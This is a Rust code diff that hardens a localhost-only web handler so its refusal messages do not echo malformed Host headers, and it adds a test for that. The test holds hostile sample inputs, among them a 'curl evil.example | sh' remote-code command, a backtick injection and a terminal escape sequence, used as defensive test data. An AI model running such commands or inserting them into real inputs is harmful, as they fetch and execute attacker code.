@@ -4,19 +4,30 @@ use std::net::IpAddr;
 
 use axum::http::{HeaderMap, header};
 
+/// Maximum length of a host's name and its port.
+const HOST_BYTES_MAX: usize = 260;
+
 /// Why a request is refused, if it is.
 pub fn refusal(headers: &HeaderMap, port: u16) -> Option<String> {
     let text = |name| headers.get(name).map(|value| String::from_utf8_lossy(value.as_bytes()).into_owned());
     let host = text(header::HOST).unwrap_or_default();
     if !is_this_page(&host, port) {
-        let host = host.escape_debug();
-        return Some(format!(
-            "the request is for `{host}`, and this page answers to loopback addresses only"
-        ));
+        return Some(if is_like_a_host(&host) {
+            format!("the request is for `{host}`, and this page answers to loopback addresses only")
+        } else {
+            "the request's Host header is not the address of this page, which answers to loopback addresses only"
+                .to_owned()
+        });
     }
     let origin = text(header::ORIGIN)?;
     (origin.strip_prefix("http://") != Some(host.as_str()))
         .then(|| format!("a web page from `{}` may not use this one", origin.escape_debug()))
+}
+
+/// Whether an answer may repeat this.
+fn is_like_a_host(text: &str) -> bool {
+    (1..=HOST_BYTES_MAX).contains(&text.len())
+        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.:[]".contains(&byte))
 }
 
 fn is_this_page(host: &str, port: u16) -> bool {
@@ -65,6 +76,18 @@ mod tests {
         }
         for origin in ["http://evil.example", "null", "https://127.0.0.1:7710", "http://127.0.0.1:7711"] {
             assert!(refused("127.0.0.1:7710", Some(origin)), "{origin}");
+        }
+    }
+
+    #[test]
+    fn a_host_that_is_no_name_of_a_machine_is_not_repeated() {
+        let why = |host: &str| {
+            let headers = [(header::HOST, host.parse().expect("a value"))].into_iter().collect();
+            refusal(&headers, 7710).expect("it is refused")
+        };
+        assert!(why("grid.example:80").contains("`grid.example:80`"));
+        for hostile in ["evil; curl evil.example | sh", "evil`", "evil\u{9b}2J", &"evil".repeat(100)] {
+            assert!(!why(hostile).contains("evil"), "{hostile}");
         }
     }
 
